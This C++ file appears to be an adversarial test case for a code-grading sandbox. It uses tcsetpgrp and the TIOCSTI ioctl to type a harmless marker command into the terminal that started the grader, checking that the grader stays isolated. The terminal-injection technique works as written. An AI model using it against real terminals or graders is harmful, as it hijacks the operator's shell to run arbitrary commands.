// Types a command at the terminal from which the grader was started, by the ioctl TIOCSTI, and takes the terminal.
// Attacks: the instructor's shell
// Expects: wrong, 0 points
// Seen: it ended with status 0 before that
#include <csignal>
#include <cstdio>
#include <fcntl.h>
#include <initializer_list>
#include <sys/ioctl.h>
#include <unistd.h>

int main() {
    std::signal(SIGTTOU, SIG_IGN);
    const int terminal = ::open("/dev/tty", O_RDWR);
    if (terminal >= 0)
        std::puts("portlab-forged: there is a terminal");
    for (const int descriptor : {terminal, 0, 1, 2}) {
        ::tcsetpgrp(descriptor, ::getpgrp());
        for (const char* c = "touch portlab-forged\n"; *c; ++c)
            if (::ioctl(descriptor, TIOCSTI, c) == 0)
                std::puts("portlab-forged: typed");
    }
}
